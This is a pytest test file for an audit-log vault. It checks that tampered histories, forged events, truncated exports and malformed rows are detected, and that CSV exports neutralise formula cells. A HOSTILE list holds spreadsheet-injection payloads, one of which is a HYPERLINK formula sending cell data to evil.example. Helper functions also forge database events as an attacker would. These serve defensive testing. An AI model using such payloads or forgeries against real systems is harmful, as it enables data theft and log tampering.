"""Audit evidence an outsider can check (issue 15): checkpoints verify before they sign, the
export carries every checkpoint and the head, and no stored row makes verify crash."""

from __future__ import annotations

import json
import stat
from pathlib import Path

import pytest
from click.testing import CliRunner
from sqlalchemy import delete, insert, select, text, update

from tests.audit.test_audit_log import drop_tail, fill, rewrite_chain
from vault import Vault
from vault.audit import AuditQuery, Checkpoint
from vault.audit.chain import canonical, event_hash
from vault.audit.export import verify_export
from vault.cli import cli
from vault.errors import AuditChainBroken, VaultError
from vault.session import Session
from vault.store.schema import audit_checkpoints, audit_events, audit_head


def head(admin: Session) -> tuple[int, bytes]:
    with admin._vault._engine.connect() as connection:
        row = connection.execute(select(audit_head.c.seq, audit_head.c.hash)).one()
    return int(row.seq), bytes(row.hash)


def forge_event(admin: Session, *, move_head: bool, mac: bytes | None = None) -> int:
    """What a database writer does: a correctly chained event, written straight into the table
    (a copy of the newest record, renamed), with or without moving the head."""
    seq, prev = head(admin)
    with admin._vault._transaction() as connection:
        last = connection.execute(select(audit_events).where(audit_events.c.seq == seq)).one()
        record = json.loads(last.body)
        record.update(seq=seq + 1, actor="mallory")
        record["customers"] = {
            "count": 0,
            "digest": "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        }
        body = canonical(record)
        digest = event_hash(prev, body)
        connection.execute(
            insert(audit_events).values(
                seq=seq + 1,
                at=last.at,
                actor="mallory",
                action=last.action,
                purpose=last.purpose,
                outcome=last.outcome,
                customer_count=0,
                request_id=last.request_id,
                body=body,
                prev_hash=prev,
                hash=digest,
                mac=mac,
            )
        )
        if move_head:
            connection.execute(update(audit_head).values(seq=seq + 1, hash=digest))
    return seq + 1


# --- observation 1: a checkpoint verifies before it signs ------------------------------------


def test_checkpoint_refuses_a_history_rewritten_with_its_stored_checkpoints_deleted(
    admin: Session,
) -> None:
    fill(admin, 4)
    signed = admin.audit_checkpoint()
    fill(admin, 2)
    rewrite_chain(admin, forge_checkpoints=False)
    with admin._vault._transaction() as connection:
        connection.execute(delete(audit_checkpoints))
        connection.execute(update(audit_events).values(mac=None))  # no trace of MACs either
    with pytest.raises(AuditChainBroken, match=f"checkpoint refused: event {signed.seq}: modified"):
        admin.audit_checkpoint()
    with admin._vault._engine.connect() as connection:
        assert connection.execute(select(audit_checkpoints)).all() == []  # nothing signed
    [refused] = admin.audit_query(AuditQuery(action="audit", outcome="failed"))
    assert refused["details"]["operation"] == "checkpoint"
    assert "the log was rewritten" in refused["reason"]


def test_checkpoint_refuses_a_chained_event_written_into_the_database(admin: Session) -> None:
    fill(admin, 3)
    admin.audit_checkpoint()
    admin.find_customers("phone", "13900000001")
    forged = forge_event(admin, move_head=True)
    with pytest.raises(AuditChainBroken, match=f"event {forged}: unauthenticated"):
        admin.audit_checkpoint()
    report = admin.audit_verify()
    assert str(report.problems[0]).startswith(f"event {forged}: unauthenticated")


def test_checkpoint_refuses_a_forged_mac_too(admin: Session) -> None:
    fill(admin, 2)
    admin.audit_checkpoint()
    forged = forge_event(admin, move_head=True, mac=b"\x00" * 32)
    with pytest.raises(AuditChainBroken, match=f"event {forged}: unauthenticated: its MAC"):
        admin.audit_checkpoint()


def test_automatic_checkpoint_does_not_sign_a_forged_event(admin: Session) -> None:
    admin._vault.audit.checkpoint_every = 10
    fill(admin, 2)  # 6 events
    forge_event(admin, move_head=True)  # event 7
    fill(admin, 1)  # events 8, 9 … and 10 would be signed
    admin.find_customers("phone", "13900000001")
    with admin._vault._engine.connect() as connection:
        assert connection.execute(select(audit_checkpoints.c.seq)).scalars().all() == []


def test_cli_checkpoint_exits_1_with_one_line_when_it_refuses(
    initialised: tuple[Vault, str], home: Path
) -> None:
    vault, token = initialised
    admin = vault.session(token, purpose="administration")
    fill(admin, 2)
    admin.audit_checkpoint()
    forge_event(admin, move_head=True)
    result = CliRunner().invoke(
        cli, ["--home", str(home), "audit", "checkpoint"], env={"VAULT_TOKEN": token}
    )
    assert result.exit_code == 1
    assert "Error: AuditChainBroken: checkpoint refused: event" in result.stderr
    assert "Traceback" not in result.stderr + result.stdout


# --- observation 3: one stray row ------------------------------------------------------------


def test_stray_row_beyond_the_head_is_named_and_stops_appends_with_the_repair_command(
    initialised: tuple[Vault, str], home: Path, tmp_path: Path
) -> None:
    vault, token = initialised
    admin = vault.session(token, purpose="administration")
    fill(admin, 2)
    stray = forge_event(admin, move_head=False)
    with pytest.raises(AuditChainBroken, match=f"audit event {stray} is already stored") as error:
        admin.find_customers("phone", "13900000001")
    assert "vault audit remove-stray" in str(error.value)
    report = admin.audit_verify()
    assert str(report.problems[0]).startswith(f"event {stray}: stray: the chain head records")
    assert report.problems[-1].kind == "not-recorded"
    run = CliRunner().invoke
    env = {"VAULT_TOKEN": token}
    verdict = run(cli, ["--home", str(home), "audit", "verify"], env=env)
    assert verdict.exit_code == 1 and f"FAILED: event {stray}: stray" in verdict.stderr
    assert "Traceback" not in verdict.stderr + verdict.stdout
    evidence = tmp_path / "stray.jsonl"
    repaired = run(
        cli,
        ["--home", str(home), "audit", "remove-stray", "--evidence", str(evidence)],
        env=env,
    )
    assert repaired.exit_code == 0, repaired.output
    [kept] = [json.loads(line) for line in evidence.read_text().splitlines()]
    assert kept["seq"] == stray and stat.S_IMODE(evidence.stat().st_mode) == 0o600
    admin.find_customers("phone", "13900000001")  # appends work again
    assert admin.audit_verify().ok
    [removal] = [
        e
        for e in admin.audit_query(AuditQuery(action="audit", limit=None))
        if e["details"].get("operation") == "remove-stray"
    ]
    assert removal["details"]["removed"][0]["seq"] == stray


def _tamper_body(admin: Session, seq: int, body: bytes | str, db_url: str) -> None:
    """Replace event ``seq``'s body and recompute its hash (so only the record is wrong)."""
    with admin._vault._transaction() as connection:
        prev = connection.execute(
            select(audit_events.c.prev_hash).where(audit_events.c.seq == seq)
        ).scalar_one()
        raw = body.encode() if isinstance(body, str) else body
        digest = event_hash(bytes(prev), raw)
        later = connection.execute(select(audit_head.c.seq)).scalar_one()
        if isinstance(body, str):  # stored as TEXT, not bytes
            if db_url.startswith("sqlite"):
                connection.execute(
                    text("UPDATE audit_events SET body = :b WHERE seq = :s"), {"b": body, "s": seq}
                )
            else:
                connection.execute(
                    text(
                        "ALTER TABLE audit_events ALTER COLUMN body TYPE text "
                        "USING convert_from(body, 'UTF8')"
                    )
                )
        else:
            connection.execute(
                update(audit_events).where(audit_events.c.seq == seq).values(body=raw)
            )
        connection.execute(
            update(audit_events).where(audit_events.c.seq == seq).values(hash=digest)
        )
        if seq == later:
            connection.execute(update(audit_head).values(hash=digest))


@pytest.mark.parametrize(
    ("body", "verdict"),
    [
        (b"not json at all", "its record is not JSON"),
        (b'{"seq": 3, "x": "\xff\xfe"}', "its record is not UTF-8"),
        (b"[3]", "its record is not a JSON object"),
        ("TEXT", "its body is not stored as bytes"),
    ],
    ids=["not-json", "not-utf8", "not-object", "stored-as-text"],
)
def test_a_malformed_body_gets_a_verdict_and_a_clean_export(
    initialised: tuple[Vault, str],
    home: Path,
    tmp_path: Path,
    db_url: str,
    body: bytes | str,
    verdict: str,
) -> None:
    vault, token = initialised
    admin = vault.session(token, purpose="administration")
    fill(admin, 2)
    text_body = ""
    if body == "TEXT":
        with admin._vault._engine.connect() as connection:
            body = bytes(
                connection.execute(
                    select(audit_events.c.body).where(audit_events.c.seq == 3)
                ).scalar_one()
            ).decode()
        text_body = body
    _tamper_body(admin, 3, body, db_url)
    run = CliRunner().invoke
    env = {"VAULT_TOKEN": token}
    result = run(cli, ["--home", str(home), "audit", "verify"], env=env)
    assert result.exit_code == 1, result.output
    # PostgreSQL turns the whole column into text: event 1 is the first one it names.
    first = 1 if body == text_body and db_url.startswith("postgresql") else 3
    assert f"FAILED: event {first}: malformed: {verdict}" in result.stderr
    assert "Traceback" not in result.stderr + result.stdout
    for fmt in ("jsonl", "csv"):
        out = tmp_path / f"audit.{fmt}"
        exported = run(
            cli,
            ["--home", str(home), "audit", "export", "--format", fmt, "-o", str(out)],
            env=env,
        )
        assert exported.exit_code == 0, exported.output
        assert "Traceback" not in exported.output
    queried = run(cli, ["--home", str(home), "audit", "query"], env=env)
    assert "Traceback" not in queried.stderr + queried.stdout
    if queried.exit_code:
        assert f"audit event {first}: its stored record is not" in queried.stderr


def test_head_row_missing_or_behind_or_ahead_is_named(admin: Session) -> None:
    fill(admin, 2)
    seq, _ = head(admin)
    with admin._vault._transaction() as connection:
        connection.execute(update(audit_head).values(seq=seq + 5))
    with admin._vault._engine.connect() as connection:
        report = admin._vault.audit.verify(connection)
    assert str(report.problems[0]).startswith(f"event {seq + 1}: truncated")
    with admin._vault._transaction() as connection:
        connection.execute(delete(audit_head))
    with admin._vault._engine.connect() as connection:
        report = admin._vault.audit.verify(connection)
    assert report.problems[0].kind == "malformed" and "audit_head" in report.problems[0].detail
    with pytest.raises(AuditChainBroken, match="chain head"):
        admin.find_customers("phone", "13900000001")


# --- observation 2: the export carries every checkpoint and the head -------------------------


def export_lines(admin: Session, tmp_path: Path) -> list[str]:
    path = tmp_path / "audit.jsonl"
    with path.open("w", encoding="utf-8") as handle:
        admin.audit_export(AuditQuery(limit=None), handle, "jsonl")
    return path.read_text(encoding="utf-8").splitlines()


def test_export_of_a_truncated_log_carries_the_checkpoint_beyond_its_end(
    admin: Session, tmp_path: Path
) -> None:
    fill(admin, 4)
    checkpoint = admin.audit_checkpoint()
    drop_tail(admin, checkpoint.seq - 3)  # the stored checkpoint stays
    lines = export_lines(admin, tmp_path)
    assert any(
        json.loads(line).get("checkpoint", {}).get("seq") == checkpoint.seq for line in lines
    )
    report = verify_export(lines, [admin.audit_public_key()])
    # the log now ends at the export's own event (committed before the export reads the log)
    assert str(report.problems[0]).startswith(f"event {checkpoint.seq - 1}: truncated")


def test_a_truncated_export_is_caught_by_a_checkpoint_kept_apart(
    admin: Session, tmp_path: Path
) -> None:
    fill(admin, 4)
    saved = Checkpoint.from_json(admin.audit_checkpoint().to_json(admin.audit_public_key()))
    fill(admin, 1)
    lines = export_lines(admin, tmp_path)
    assert verify_export(lines, [admin.audit_public_key()], [saved]).ok
    events = [line for line in lines if '"seq"' in line and '"prev_hash"' in line]
    # Cut the file after event 5: its checkpoints and head are gone with the tail.
    assert saved.seq > 5
    cut = events[:5]
    report = verify_export(cut, [admin.audit_public_key()], [saved])
    assert not report.ok and report.problems[0].kind == "truncated"
    # Rebuild the tail as the attacker would (a fresh head line, no checkpoints): still caught.
    last = json.loads(cut[-1])
    forged = [*cut, json.dumps({"head": {"seq": last["seq"], "hash": last["hash"]}})]
    report = verify_export(forged, [admin.audit_public_key()], [saved])
    assert str(report.problems[0]).startswith("event 6: truncated")


def test_export_without_its_head_line_is_named_cut(admin: Session, tmp_path: Path) -> None:
    fill(admin, 2)
    lines = export_lines(admin, tmp_path)
    assert verify_export(lines, [admin.audit_public_key()]).ok
    report = verify_export(lines[:-1], [admin.audit_public_key()])
    assert report.problems[0].kind == "truncated" and "no head line" in report.problems[0].detail


def test_export_with_a_changed_line_is_named(admin: Session, tmp_path: Path) -> None:
    fill(admin, 2)
    lines = export_lines(admin, tmp_path)
    lines[2] = lines[2].replace("allowed", "denied")
    report = verify_export(lines, [admin.audit_public_key()])
    assert str(report.problems[0]) == "event 3: modified: its record does not match its hash"


# --- issue 14: the audit export is audited, fails closed, and is safe to open in a sheet -----


def _break_audit_inserts(admin: Session, db_url: str) -> None:
    with admin._vault._transaction() as connection:
        if db_url.startswith("sqlite"):
            connection.exec_driver_sql(
                "CREATE TRIGGER audit_down BEFORE INSERT ON audit_events "
                "BEGIN SELECT RAISE(ABORT, 'audit store down'); END"
            )
        else:
            connection.exec_driver_sql(
                "CREATE FUNCTION audit_down() RETURNS trigger LANGUAGE plpgsql AS "
                "$$ BEGIN RAISE EXCEPTION 'audit store down'; END $$"
            )
            connection.exec_driver_sql(
                "CREATE TRIGGER audit_down BEFORE INSERT ON audit_events "
                "FOR EACH ROW EXECUTE FUNCTION audit_down()"
            )


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
def test_audit_export_with_the_audit_store_failing_writes_no_file_and_one_line(
    initialised: tuple[Vault, str], home: Path, tmp_path: Path, db_url: str, fmt: str
) -> None:
    vault, token = initialised
    admin = vault.session(token, purpose="administration")
    fill(admin, 2)
    _break_audit_inserts(admin, db_url)
    out = tmp_path / "out" / f"audit.{fmt}"
    result = CliRunner().invoke(
        cli,
        ["--home", str(home), "audit", "export", "--format", fmt, "-o", str(out)],
        env={"VAULT_TOKEN": token},
    )
    assert result.exit_code == 1
    assert "Traceback" not in result.stderr + result.stdout
    [line] = [line for line in result.stderr.splitlines() if line.startswith("Error:")]
    assert "audit event could not be written" in line
    assert not out.exists() and list(out.parent.iterdir()) == []  # no temporary file left


def test_audit_export_file_is_0600_and_its_event_is_committed(
    initialised: tuple[Vault, str], home: Path, tmp_path: Path
) -> None:
    vault, token = initialised
    admin = vault.session(token, purpose="administration")
    fill(admin, 1)
    out = tmp_path / "audit.jsonl"
    result = CliRunner().invoke(
        cli, ["--home", str(home), "audit", "export", "-o", str(out)], env={"VAULT_TOKEN": token}
    )
    assert result.exit_code == 0, result.output
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    exports = [
        e
        for e in admin.audit_query(AuditQuery(action="audit", limit=None))
        if e["details"].get("operation") == "export"
    ]
    assert len(exports) == 1


HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"x")',
    "@SUM(A1:A9)",
    "+1+1",
    "-2+3",
    "\tx",
    "\rx",
]


def test_audit_csv_export_neutralises_formula_cells(admin: Session, tmp_path: Path) -> None:
    import csv

    for hostile in HOSTILE:
        with pytest.raises(VaultError):
            admin.find_customers(hostile, "13900000001")
        with pytest.raises(VaultError):
            admin.get_customer(hostile)
    path = tmp_path / "audit.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        admin.audit_export(AuditQuery(limit=None), handle, "csv")
    cells = [cell for row in csv.reader(path.open(encoding="utf-8", newline="")) for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    joined = "\n".join(cells)
    assert any(f"'{hostile}" in joined for hostile in HOSTILE)  # kept, as text
